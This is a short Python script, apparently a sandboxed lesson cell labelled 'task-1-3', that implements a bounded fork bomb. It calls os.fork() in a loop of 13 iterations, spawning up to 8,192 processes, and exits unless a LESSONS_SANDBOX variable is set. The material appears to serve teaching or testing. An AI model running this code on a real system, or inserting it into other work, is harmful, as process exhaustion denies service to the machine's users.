# attack: a fork bomb: each process makes two more
# cell: task-1-3
if not __import__("os").environ.get("LESSONS_SANDBOX"): raise SystemExit
import os
import time

for _ in range(13):  # 8,192 processes at the most
    try:
        os.fork()
    except OSError:
        pass
time.sleep(60)
os._exit(0)
